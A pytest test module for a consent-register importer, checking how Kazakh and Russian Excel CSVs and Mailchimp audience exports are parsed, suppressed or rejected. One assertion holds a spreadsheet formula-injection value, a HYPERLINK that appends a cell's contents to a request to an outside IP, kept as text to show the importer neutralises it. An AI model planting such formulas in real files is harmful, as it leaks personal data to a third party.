"""The lists of tests/imports/data/, imported into empty registers: counts and facts.

The files imitate what people bring from their old tools, with invented people and addresses:

- volunteers_kk_utf8_bom.csv: Excel's "CSV UTF-8 (Comma delimited)" on a Kazakh Windows (a BOM,
  the list separator `;`, CRLF), a full-name column in Kazakh, one person who said жоқ, a Latin
  letter inside a Cyrillic name and a space before an address.
- donors_ru_cp1251.csv: Excel's plain "CSV (Comma delimited)" on a Russian Windows: Windows-1251
  (the Kazakh letters became "?"), `;`, a phone Excel turned into 7,71E+10, a quoted cell over two
  lines, a "нет" and an empty consent.
- alumni_kk_kz1048.csv: a Kazakh list in KZ-1048, the Kazakh code page (Python's "kz1048").
- subscribed_/unsubscribed_/cleaned_members_export_7c41d09e2a.csv: Mailchimp's audience export,
  a zip of one CSV per status, named by it. The columns are Mailchimp's: the audience's merge
  fields ("Email Address", "First Name", "Last Name", "Phone Number", Birthday), then MEMBER_RATING,
  OPTIN_TIME, OPTIN_IP, CONFIRM_TIME, CONFIRM_IP, LATITUDE, LONGITUDE, GMTOFF, DSTOFF, TIMEZONE,
  CC, REGION, then LAST_CHANGED (subscribed), UNSUB_TIME, UNSUB_CAMPAIGN_TITLE, UNSUB_CAMPAIGN_ID,
  UNSUB_REASON, UNSUB_REASON_OTHER (unsubscribed) or CLEAN_TIME, CLEAN_CAMPAIGN_TITLE,
  CLEAN_CAMPAIGN_ID (cleaned), then LEID, EUID, NOTES, TAGS; times in UTC. Sources: Mailchimp's
  help, "About Cleaned Contacts" (https://mailchimp.com/help/about-cleaned-contacts) and "View
  Unsubscribed and Cleaned Addresses"
  (http://kb.mailchimp.com/lists/managing-subscribers/view-unsubscribed-and-cleaned-addresses) for
  the three sections and their export, and the CiviCRM team's notes on Mailchimp exports
  (http://ginkgo.st/~ca/roadmap/mailchimp-and-civicrm-overview/notes-on-mailchimp-data-exports)
  for the zip of three CSVs.
"""

from datetime import UTC, datetime

import pytest

from consents.models import Consent, ConsentMethod, SuppressionEntry
from consents.suppression import suppression_digest
from subjects.models import Source, Subject
from tests.consents.factories import ConsentFactory
from tests.imports.conftest import DATA, counts_of, run_import, sample, table_counts
from tests.subjects.factories import SubjectFactory

EXPECTED = {
    "volunteers_kk_utf8_bom.csv": {
        "created": 6,
        "updated": 0,
        "unchanged": 0,
        "suppressed": 0,
        "withdrawn": 0,
        "rejected": 1,
    },
    "donors_ru_cp1251.csv": {
        "created": 3,
        "updated": 0,
        "unchanged": 0,
        "suppressed": 0,
        "withdrawn": 0,
        "rejected": 3,
    },
    "alumni_kk_kz1048.csv": {
        "created": 3,
        "updated": 0,
        "unchanged": 0,
        "suppressed": 0,
        "withdrawn": 0,
        "rejected": 0,
    },
    "subscribed_members_export_7c41d09e2a.csv": {
        "created": 5,
        "updated": 0,
        "unchanged": 0,
        "suppressed": 0,
        "withdrawn": 0,
        "rejected": 0,
    },
    "unsubscribed_members_export_7c41d09e2a.csv": {
        "created": 0,
        "updated": 0,
        "unchanged": 0,
        "suppressed": 4,
        "withdrawn": 0,
        "rejected": 0,
    },
    # A bounce is no refusal of the person's: the rows are rejected with the reason, not
    # suppressed (imports.services.statuses).
    "cleaned_members_export_7c41d09e2a.csv": {
        "created": 0,
        "updated": 0,
        "unchanged": 0,
        "suppressed": 0,
        "withdrawn": 0,
        "rejected": 2,
    },
}


# The exports of other tools (Brevo, UniSender, SendPulse, Google Forms, Tilda, Mailchimp with CC)
# have tests of their own in test_tools.py.
TOOL_FILES = {
    "brevo_contacts.csv", "google_forms_responses.csv", "sendpulse_mailing_list.csv",
    "mailchimp_subscribed_members_export_cc.csv", "tilda_leads.csv", "unisender_contacts.csv",
}  # fmt: skip


def test_every_data_file_has_expected_counts():
    assert {path.name for path in DATA.glob("*.csv")} - TOOL_FILES == set(EXPECTED)


@pytest.mark.django_db
@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_sample_imports_with_the_expected_counts(name):
    report = run_import(sample(name))

    assert counts_of(report) == EXPECTED[name]
    file = report.files[0]
    assert file.rows == sum(EXPECTED[name].values()) + file.outcome.duplicates


@pytest.mark.django_db
def test_kazakh_excel_list_keeps_its_letters_names_and_phones(officer):
    report = run_import(sample("volunteers_kk_utf8_bom.csv"), actor=officer)

    assert report.files[0].encoding == "utf-8-sig"
    assert report.files[0].delimiter == ";"
    daulet = Subject.objects.get(email="daulet.sarsenbayev@example.kz")
    assert (daulet.last_name, daulet.first_name, daulet.phone, daulet.city) == (
        "Сәрсенбаев", "Дәулет", "+77051112231", "Павлодар",
    )  # fmt: skip
    assert daulet.source == Source.IMPORT
    gulnaz = Subject.objects.get(email="gulnaz.zhaksylykova@example.org")
    assert (gulnaz.last_name, gulnaz.first_name, gulnaz.phone, gulnaz.city) == (
        "Жақсылықова", "Гүлназ", "+77751112232", "Түркістан",
    )  # fmt: skip
    ulzhan = Subject.objects.get(email="ulzhan.irgebayeva@example.kz")
    assert (ulzhan.last_name, ulzhan.first_name, ulzhan.phone) == (
        "Іргебаева", "Ұлжан", "+77001112237",
    )  # fmt: skip
    # A leading space before the address is not part of it.
    assert Subject.objects.filter(email="olzhas.nurpeisov@example.com").exists()
    # Said no (жоқ) on line 4: not imported, and the reason says so with its line.
    assert not Subject.objects.filter(email="erulan.kuanyshev@example.com").exists()
    [rejected] = report.files[0].rejected_rows
    assert rejected.line == 4
    assert "жоқ" in rejected.reason


@pytest.mark.django_db
def test_kazakh_consent_date_is_the_registration_date_in_almaty():
    run_import(sample("volunteers_kk_utf8_bom.csv"))

    consent = Consent.objects.get(subject__email="daulet.sarsenbayev@example.kz")
    assert consent.given_at == datetime(2025, 3, 3, 19, 0, tzinfo=UTC)  # 04.03.2025, UTC+5
    assert consent.method == ConsentMethod.IMPORT
    assert consent.policy_version is None  # the old list's text is not our policy
    iso_date = Consent.objects.get(subject__email="asem.bekbolatova@example.kz")
    assert iso_date.given_at == datetime(2025, 4, 1, 19, 0, tzinfo=UTC)  # 2025-04-02


@pytest.mark.django_db
def test_russian_cp1251_list_is_read_and_its_bad_rows_are_reported_by_physical_line():
    report = run_import(sample("donors_ru_cp1251.csv"))

    file = report.files[0]
    assert (file.encoding, file.delimiter) == ("cp1251", ";")
    maria = Subject.objects.get(email="maria.kuznetsova@example.org")
    assert (maria.last_name, maria.first_name, maria.patronymic) == (
        "Кузнецова",
        "Мария",
        "Алексеевна",
    )
    assert maria.phone == "+77013334451"
    # The address is kept in lower case, without the space Excel left after it.
    assert Subject.objects.get(email="d.voronov@example.com").last_name == "Воронов"
    # The row after the two-line cell is read as a row of its own.
    saule = Subject.objects.get(email="saule.akhmetzhanova@example.kz")
    assert (saule.last_name, saule.patronymic) == ("Ахметжанова", "Маратовна")
    reasons = {rejected.line: rejected.reason for rejected in file.rejected_rows}
    # Line 5 holds a comment over two lines, so the next row starts on line 7.
    assert set(reasons) == {4, 5, 7}
    assert "7,71E+10" in reasons[4]  # rejected, not guessed
    assert "Excel" in reasons[4]
    assert "?" in reasons[4]  # Kazakh letters lost when saved as Windows-1251
    assert "нет" in reasons[5]
    assert "empty" in reasons[7]
    assert not Subject.objects.filter(email="nurlan.kaiyrbekov@example.kz").exists()
    assert not Subject.objects.filter(email="formula.check@example.org").exists()


@pytest.mark.django_db
def test_a_kz1048_list_keeps_every_kazakh_letter():
    report = run_import(sample("alumni_kk_kz1048.csv"))

    assert (report.files[0].encoding, report.files[0].delimiter) == ("kz1048", ";")
    ansagan = Subject.objects.get(email="ansagan.sharipova@example.kz")
    assert (ansagan.last_name, ansagan.first_name, ansagan.patronymic, ansagan.phone) == (
        "Шәріпова", "Аңсаған", "Ғаниқызы", "+77012223341",
    )  # fmt: skip
    nurbol = Subject.objects.get(email="nurbol.hashimov@example.org")
    assert (nurbol.last_name, nurbol.first_name, nurbol.patronymic) == (
        "Һашимов",
        "Нұрбол",
        "Өмірұлы",
    )
    inkar = Subject.objects.get(email="inkar.usenova@example.com")
    assert (inkar.last_name, inkar.first_name, inkar.phone) == ("Үсенова", "Іңкәр", "")


@pytest.mark.django_db
def test_mailchimp_subscribed_export_keeps_opt_in_evidence_and_the_formula_as_text(officer):
    name = "subscribed_members_export_7c41d09e2a.csv"
    report = run_import(sample(name), actor=officer)

    assert report.files[0].list_kind == "mailchimp_subscribed"
    bauyrzhan = Consent.objects.get(subject__email="bauyrzhan.tokenov@example.kz")
    # Confirmed (double opt-in) is when the consent was given; Mailchimp writes UTC.
    assert bauyrzhan.given_at == datetime(2023, 9, 12, 5, 43, 9, tzinfo=UTC)
    payload = bauyrzhan.evidence_payload
    assert payload["imported_from_old_list"] is True
    assert payload["file"] == name
    assert payload["sha256"] == report.files[0].sha256
    assert payload["line"] == 2
    assert payload["optin_time"] == "2023-09-12T05:40:22+00:00"
    assert payload["optin_ip"] == "198.51.100.61"
    assert payload["confirm_ip"] == "198.51.100.61"
    for text in (name, report.files[0].sha256, "line 2", "2023-09-12 05:40:22", "198.51.100.61"):
        assert text in bauyrzhan.evidence
    # No OPTIN_TIME (added by hand in Mailchimp): the confirmation is the consent.
    zhanar = Consent.objects.get(subject__email="zhanar.mukasheva@example.org")
    assert zhanar.given_at == datetime(2022, 6, 30, 11, 20, tzinfo=UTC)
    peter = Consent.objects.get(subject__email="peter.smith.sample@example.com")
    assert peter.evidence_payload["comment"] == '=HYPERLINK("http://198.51.100.9/?q="&B2,"open")'
    assert Subject.objects.get(email="yerlan.abdrakhmanov@example.com").first_name == "Ерлан"
    # Excel's text guard (a leading apostrophe) and a local 8-number are both read as phones.
    assert Subject.objects.get(email="zhanar.mukasheva@example.org").phone == "+77054445562"
    assert Subject.objects.get(email="aruzhan.sadykova@example.kz").phone == "+77004445565"


def _import_adding_nobody(name: str, list_kind: str):
    """Import a sample that is recognised as `list_kind` and makes no subject and no consent."""
    report = run_import(sample(name))
    assert report.files[0].list_kind == list_kind
    assert Subject.objects.count() == 0
    assert Consent.objects.count() == 0
    return report


@pytest.mark.django_db
def test_mailchimp_unsubscribed_export_suppresses_and_never_gives_consents():
    _import_adding_nobody("unsubscribed_members_export_7c41d09e2a.csv", "mailchimp_unsubscribed")

    digest = suppression_digest(kind="email", value="askar.zhumabayev@example.com")
    assert SuppressionEntry.objects.get(kind="email", digest=digest).reason == "unsubscribed"
    phone = suppression_digest(kind="phone", value="+77475556604")
    assert SuppressionEntry.objects.get(kind="phone", digest=phone).reason == "unsubscribed"
    assert SuppressionEntry.objects.count() == 5  # four addresses and the one phone


@pytest.mark.django_db
def test_mailchimp_cleaned_export_rejects_the_bounced_addresses_with_the_reason():
    report = _import_adding_nobody("cleaned_members_export_7c41d09e2a.csv", "mailchimp_cleaned")

    assert SuppressionEntry.objects.count() == 0
    rejected = report.files[0].rejected_rows
    assert len(rejected) == 2
    assert all("bounced" in row.reason for row in rejected)


@pytest.mark.django_db
def test_mailchimp_unsubscribed_export_withdraws_a_live_consent_given_before_leaving(officer):
    subject = SubjectFactory(email="askar.zhumabayev@example.com")
    consent = ConsentFactory(subject=subject, given_at=datetime(2021, 12, 1, tzinfo=UTC))

    name = "unsubscribed_members_export_7c41d09e2a.csv"
    report = run_import(sample(name), actor=officer)

    assert counts_of(report)["withdrawn"] == 1
    consent.refresh_from_db()
    assert consent.state == "withdrawn"
    assert consent.withdrawn_at == datetime(2024, 8, 5, 9, 14, 27, tzinfo=UTC)  # UNSUB_TIME
    assert consent.withdrawal_channel == "unsubscribe_link"
    change = Consent.history.filter(id=consent.pk).order_by("history_id").last()
    assert (change.history_type, change.history_user, change.state) == ("~", officer, "withdrawn")
    assert name in change.history_change_reason


@pytest.mark.django_db
def test_a_consent_given_after_leaving_mailchimp_is_not_withdrawn_by_the_old_export():
    subject = SubjectFactory(email="askar.zhumabayev@example.com")
    consent = ConsentFactory(subject=subject, given_at=datetime(2025, 6, 1, tzinfo=UTC))
    before = table_counts()

    report = run_import(sample("unsubscribed_members_export_7c41d09e2a.csv"))

    assert counts_of(report) == {
        "created": 0,
        "updated": 0,
        "unchanged": 1,
        "suppressed": 3,
        "withdrawn": 0,
        "rejected": 0,
    }
    consent.refresh_from_db()
    assert consent.state == "given"
    assert table_counts()["consents"] == before["consents"]
